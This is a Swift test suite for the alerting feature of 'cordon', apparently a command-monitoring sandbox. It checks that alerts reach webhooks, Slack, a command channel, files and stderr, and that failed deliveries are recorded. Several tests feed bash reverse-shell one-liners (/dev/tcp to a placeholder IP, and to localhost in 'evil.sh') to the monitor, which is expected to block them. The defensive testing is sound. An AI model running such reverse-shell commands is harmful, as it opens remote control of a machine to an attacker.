// Alerts end to end (issue 14, section 4): a real `cordon run` whose policy triggers an alert
// delivers it to a local HTTP listener (alert JSON and Slack's shape), a command and a file;
// the alert is in the trace and gate.log; an unreachable or silent webhook leaves
// `alert_failed` without holding the run; a long approval wait raises one. Delay figures come
// from `cordon-bench alerts`, not from here.
import CordonTestSupport
import Foundation
import Testing

@Suite("alerts end to end", .serialized, .timeLimit(.minutes(5)))
struct AlertTests {
    /// A policy next to the workspace (not inside it, so no trust pin is involved).
    static func policy(_ ws: Workspace, _ monitor: String) throws -> String {
        let path = ws.path + ".policy.yaml"
        try ("extends: default\nmonitor:\n" + monitor).write(toFile: path, atomically: false, encoding: .utf8)
        return path
    }

    static func trace(_ ws: Workspace) throws -> (path: String, events: [[String: Any]]) {
        let dir = ws.path + "/.cordon/traces"
        let name = try FileManager.default.contentsOfDirectory(atPath: dir).filter { $0.hasSuffix(".jsonl") }.sorted()
        let path = dir + "/" + (name.last ?? "none")
        return (path, try RunEvidence.lastTrace(ws))
    }

    static func json(_ bytes: [UInt8]) -> [String: Any] {
        (try? JSONSerialization.jsonObject(with: Data(bytes))) as? [String: Any] ?? [:]
    }

    @Test("a critical block reaches a webhook, a slack webhook, a command and a file, with the run id and trace path")
    func criticalBlockDelivered() throws {
        let ws = try Workspace()
        let hook = try HTTPListener()
        let slack = try HTTPListener()
        defer {
            hook.stop()
            slack.stop()
        }
        let out = ws.path + ".alerts.jsonl"
        let got = ws.path + ".command.json"
        defer { for p in [out, got, ws.path + ".policy.yaml"] { try? FileManager.default.removeItem(atPath: p) } }
        let policy = try Self.policy(
            ws,
            // Delivery is what is tested here, not its speed: a loaded machine (the suite as
            // an ordinary user beside other builds) once took longer than the default 2 s drain
            // to start the command channel's `sh`.
            """
              alert_delivery: {drain: 20s}
              alert_channels:
                - {type: webhook, url: "${HOOK}/cordon"}
                - {type: slack, webhook: "\(slack.url)/services/T/B/X"}
                - {type: command, argv: [sh, -c, "cat > \(got)"]}
                - {type: file, path: \(out), min_level: critical}
                - {type: file, path: \(out).none, min_level: critical}
            """)
        try? FileManager.default.removeItem(atPath: out + ".none")
        let r = try ws.run(
            ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], options: ["--policy", policy],
            env: ["HOOK": hook.url])
        #expect(r.status == 77)
        let (tracePath, events) = try Self.trace(ws)
        let run = try #require(RunEvidence.events(events, "run_start").first?["run"] as? String)

        let req = try #require(hook.waitFor(1).first)
        #expect(req.target == "/cordon")
        let alert = Self.json(req.body)
        #expect(alert["run"] as? String == run)
        #expect(alert["trace"] as? String == tracePath)
        #expect(alert["kind"] as? String == "critical_block")
        #expect(alert["level"] as? String == "critical")
        #expect((alert["summary"] as? String)?.contains("/dev/tcp/203.0.113.7/4444") == true)
        #expect(
            (alert["commands"] as? [String])?.first == "cordon log --run \(run) --log-dir \(ws.path)/.cordon")
        #expect((alert["lastDecisions"] as? [[String: Any]])?.first?["decision"] as? String == "block")

        let slackBody = Self.json(try #require(slack.waitFor(1).first).body)
        #expect((slackBody["text"] as? String)?.hasPrefix("[cordon] critical: ") == true)
        #expect((slackBody["blocks"] as? [[String: Any]])?.first?["type"] as? String == "header")

        let commandJSON = Self.json(Array(try String(contentsOfFile: got, encoding: .utf8).utf8))
        #expect(commandJSON["run"] as? String == run)
        let lines = try String(contentsOfFile: out, encoding: .utf8).split(separator: "\n")
        #expect(lines.count == 1)
        #expect(Self.json(Array(lines[0].utf8))["trace"] as? String == tracePath)

        // Visible afterwards: the alert event (before run_end) and a gate.log line.
        let raised = try #require(RunEvidence.events(events, "alert").first)
        #expect((raised["channels"] as? [String])?.count == 5)
        #expect(RunEvidence.events(events, "alert_failed").isEmpty)
        #expect(events.last?["type"] as? String == "run_end")
        let log = try String(contentsOfFile: ws.path + "/.cordon/gate.log", encoding: .utf8)
        #expect(log.contains(" decision=alert score=100 level=critical "))
        #expect(log.contains(" run=\(run) ") && log.contains(" source=alert pid="))
        let listed = try Shell.cordon(["log", "--run", run, "--log-dir", ws.path + "/.cordon"])
        #expect(listed.stdout.contains("source=alert"))
    }

    @Test(
        "an unreachable webhook (a closed port) and a silent one leave alert_failed and do not hold the run",
        .enabled(if: SandboxSupport.available, SandboxSupport.skipReason))
    func unreachable() throws {
        let ws = try Workspace()
        let silent = try HTTPListener(.blackhole)
        defer { silent.stop() }
        let closed = try HTTPListener.closedPort()
        defer { try? FileManager.default.removeItem(atPath: ws.path + ".policy.yaml") }
        // Each attempt may wait 30s for an answer; the drain gives them 0.5s at the end.
        let policy = try Self.policy(
            ws,
            """
              alert_channels:
                - {type: webhook, url: "http://127.0.0.1:\(closed)/x"}
                - {type: webhook, url: "\(silent.url)/x"}
              alert_delivery: {timeout: 30s, retries: 3, drain: 500ms}
            """)
        // Blocked inside the sandbox by the monitor: the run goes on to `echo after`.
        try ws.write("evil.sh", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\necho after\n")
        let r = try ws.run(["sh", "evil.sh"], options: ["--policy", policy])
        #expect(r.status == 0)
        #expect(r.stdout == "after\n")
        // Far below one attempt's 30s timeout: the run did not wait for the silent server.
        #expect(r.seconds < 10, "cordon took \(r.seconds)s")
        let (_, events) = try Self.trace(ws)
        let failed = RunEvidence.events(events, "alert_failed")
        let channels = Set(failed.compactMap { $0["channel"] as? String })
        #expect(channels == ["webhook http://127.0.0.1:\(closed)", "webhook \(silent.url)"])
        let refused = failed.first { $0["channel"] as? String == "webhook http://127.0.0.1:\(closed)" }
        #expect(refused?["error"] as? String == "connect 127.0.0.1:\(closed): Connection refused")
        let hung = failed.first { $0["channel"] as? String == "webhook \(silent.url)" }
        #expect(
            (hung?["error"] as? String)?.contains("before cordon exited (monitor.alert_delivery.drain 0.5s passed")
                == true)
        #expect(silent.waitFor(1).count == 1)
        let end = RunEvidence.runEnd(events)
        #expect((end["durationMs"] as? Double ?? 1e9) < 5000)
        let log = try String(contentsOfFile: ws.path + "/.cordon/gate.log", encoding: .utf8)
        #expect(log.split(separator: "\n").filter { $0.contains(" decision=alert_failed ") }.count == 2)
    }

    @Test("an approval waiting longer than monitor.alert_on.approval_wait raises an alert naming it")
    func approvalWait() throws {
        let ws = try Workspace()
        let out = ws.path + ".alerts.jsonl"
        defer { for p in [out, ws.path + ".policy.yaml"] { try? FileManager.default.removeItem(atPath: p) } }
        let policy = try Self.policy(
            ws,
            """
              alert_channels: [{type: file, path: \(out)}]
              alert_on: {approval_wait: 1s}
            approvals: {timeout: 3s}
            """)
        let r = try ws.run(["npm", "install", "left-pad"], options: ["--policy", policy, "--approval", "queue"])
        #expect(r.status == 75)
        let lines = try String(contentsOfFile: out, encoding: .utf8).split(separator: "\n")
        #expect(lines.count == 1)
        let alert = Self.json(Array((lines.first ?? "").utf8))
        #expect(alert["kind"] as? String == "approval_wait")
        #expect(alert["level"] as? String == "high")
        #expect((alert["summary"] as? String)?.contains("for a person: npm install left-pad") == true)
        let reasons = alert["reasons"] as? [String] ?? []
        #expect(reasons.contains { $0.hasPrefix("approve with: cordon approvals approve ") })
        let (_, events) = try Self.trace(ws)
        #expect(RunEvidence.events(events, "alert").first?["kind"] as? String == "approval_wait")
    }

    @Test("without alert channels nothing is raised: no alert event, no source=alert line")
    func noChannels() throws {
        let ws = try Workspace()
        let r = try ws.run(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
        #expect(r.status == 77)
        let (_, events) = try Self.trace(ws)
        #expect(RunEvidence.events(events, "alert").isEmpty)
        let log = try String(contentsOfFile: ws.path + "/.cordon/gate.log", encoding: .utf8)
        #expect(!log.contains("source=alert"))
    }

    @Test("an email channel on a machine without sendmail: the policy is valid, lint and run warn")
    func emailWithoutSendmail() throws {
        let ws = try Workspace()
        defer { try? FileManager.default.removeItem(atPath: ws.path + ".policy.yaml") }
        let policy = try Self.policy(ws, "  alert_channels: [{type: email, to: ops@example.com}]\n")
        let hasSendmail = ["/usr/sbin/sendmail", "/usr/lib/sendmail", "/usr/bin/sendmail"].contains {
            FileManager.default.isExecutableFile(atPath: $0)
        }
        let lint = try Shell.cordon(["policy", "lint", policy])
        #expect(lint.status == 0)
        let warning = "warning: monitor.alert_channels[0]: email to ops@example.com cannot be sent: no sendmail here"
        #expect(lint.stderr.contains(warning) == !hasSendmail, "\(lint.stderr)")
        let r = try ws.run(["true"], options: ["--policy", policy, "--unsandboxed"])
        #expect(r.status == 0)
        #expect(r.stderr.contains("cordon: " + warning) == !hasSendmail, "\(r.stderr)")
    }

    @Test("a stderr channel prints the alert without the command's control characters")
    func stderrChannel() throws {
        let ws = try Workspace()
        defer { try? FileManager.default.removeItem(atPath: ws.path + ".policy.yaml") }
        let policy = try Self.policy(ws, "  alert_channels: [{type: stderr}]\n")
        let r = try ws.run(
            ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # \u{1b}[2J"], options: ["--policy", policy])
        #expect(r.status == 77)
        let lines = r.stderr.split(separator: "\n").filter {
            $0.hasPrefix("cordon: alert: ") || $0.hasPrefix("cordon:   ")
        }
        #expect(
            lines.first?.hasPrefix("cordon: alert: [cordon] critical: cordon blocked a command at critical level")
                == true)
        #expect(lines.contains { $0.contains("cordon log --run r-") })
        #expect(!lines.contains { $0.contains("\u{1b}") })
    }
}
